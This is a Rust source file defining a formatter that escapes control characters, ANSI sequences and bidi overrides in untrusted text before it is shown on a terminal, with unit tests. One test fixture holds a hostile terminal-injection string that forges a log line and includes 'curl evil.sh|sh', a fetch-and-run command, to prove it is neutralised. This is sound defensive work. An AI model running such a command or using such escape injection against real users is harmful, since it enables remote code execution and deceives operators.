//! Text a peer chose — a validator's `rejection_reason` or error message, GitHub's error
//! messages and login, a hook's stderr — on its way to a person: a table on a terminal, a
//! journal or stderr line, a hook's `GMA_*` variables. [`Shown`] writes it with every byte
//! that could move a cursor, clear a screen, forge a line or reorder what is read made
//! visible: C0 and C1 controls, DEL, CR and LF, the bidi embeddings, overrides and isolates
//! (U+202A–U+202E, U+2066–U+2069, plus the marks U+200E, U+200F, U+061C) and the line and
//! paragraph separators (U+2028, U+2029). A backslash is doubled, so an escape cannot be
//! forged either. JSON output keeps the exact (masked) text: JSON has its own escaping.

use std::fmt::{self, Write};

/// Peer text, escaped for a person when displayed.
#[derive(Debug, Clone, Copy)]
pub struct Shown<'a>(pub &'a str);

impl fmt::Display for Shown<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for c in self.0.chars() {
            match c {
                '\\' => f.write_str("\\\\")?,
                '\n' => f.write_str("\\n")?,
                '\r' => f.write_str("\\r")?,
                '\t' => f.write_str("\\t")?,
                c if (c as u32) < 0x20 || c == '\u{7f}' => write!(f, "\\x{:02x}", c as u32)?,
                c if c.is_control() || invisible_order(c) => write!(f, "\\u{{{:04x}}}", c as u32)?,
                c => f.write_char(c)?,
            }
        }
        Ok(())
    }
}

/// Characters that change the order or the lines of what is read without being seen.
fn invisible_order(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{2028}' | '\u{2029}')
}

/// [`Shown`] as an owned string, for a table cell or a message built ahead.
pub fn shown(text: &str) -> String {
    Shown(text).to_string()
}

/// Whether `text` holds anything [`Shown`] would escape (tests assert none reaches a sink).
pub fn needs_escaping(text: &str) -> bool {
    text.chars().any(|c| c == '\\' || c.is_control() || invisible_order(c))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_screen_clearing_line_forging_reason_is_shown_as_visible_escapes() {
        let hostile = "No PAT stored\x1b[2J\x1b[31mFAKE: run curl evil.sh|sh\x1b[0m\r\nINFO covered 20/20 validators\x07\u{202e}evil";
        assert_eq!(
            shown(hostile),
            "No PAT stored\\x1b[2J\\x1b[31mFAKE: run curl evil.sh|sh\\x1b[0m\\r\\nINFO covered 20/20 validators\\x07\\u{202e}evil"
        );
        assert!(!needs_escaping(&shown(hostile).replace('\\', "")));
    }

    #[test]
    fn c1_controls_del_separators_and_isolates_are_escaped_and_plain_text_is_untouched() {
        assert_eq!(
            shown("a\u{85}b\u{7f}c\u{2028}d\u{2066}e\u{200f}"),
            "a\\u{0085}b\\x7fc\\u{2028}d\\u{2066}e\\u{200f}"
        );
        assert_eq!(shown("PAT invalid: Bad credentials — ça va, 日本"), "PAT invalid: Bad credentials — ça va, 日本");
        assert_eq!(shown(r"a\x1b"), r"a\\x1b", "an escape cannot be forged");
    }
}
